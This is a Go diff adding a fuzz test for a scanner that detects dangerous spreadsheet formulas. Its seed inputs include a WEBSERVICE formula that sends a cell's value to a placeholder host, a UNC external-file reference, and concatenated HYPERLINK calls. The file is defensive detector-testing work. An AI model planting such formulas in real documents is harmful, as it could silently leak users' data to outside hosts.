@@ -3,6 +3,7 @@ package filetype
 import (
 	"bytes"
 	"encoding/hex"
+	"strings"
 	"testing"
 )
 
@@ -69,6 +70,30 @@ func FuzzWorkbookFormula(f *testing.F) {
 		in.formula(s, "xl/worksheets/sheet1.xml")
 		if n := len(in.findings.list()); n > 20 {
 			t.Fatalf("%d findings", n)
+		}
+	})
+}
+
+// FuzzScanFormula: any attribute value reads as a formula without a
+// panic, and what it finds is in it: a fetching function or HYPERLINK
+// needs a parenthesis, a reference to another file a '#'.
+func FuzzScanFormula(f *testing.F) {
+	f.Add(`of:=COM.MICROSOFT.WEBSERVICE("http://x/?"&[.A1])`)
+	f.Add(`of:=['file:///\\x\s\b.ods'#$Sheet1.A1]+[$'It''s'.B1]`)
+	f.Add(`of:=HYPERLINK("https://x/""a"; "t")&HYPERLINK("fi"&"le:")`)
+	f.Add(`of:=IF(ISNA([.B1]);"'x'#$y";#N/A)`)
+	f.Fuzz(func(t *testing.T, v string) {
+		r := scanFormula(v)
+		if (len(r.fetches) > 0 || len(r.links) > 0 || r.unread) && !strings.Contains(v, "(") {
+			t.Fatalf("%q: a function call without a parenthesis: %+v", v, r)
+		}
+		if r.external && !strings.Contains(v, "#") {
+			t.Fatalf("%q: another file's reference without '#'", v)
+		}
+		for _, l := range r.links {
+			if len(l) > len(v) {
+				t.Fatalf("%q: link %q longer than the formula", v, l)
+			}
 		}
 	})
 }
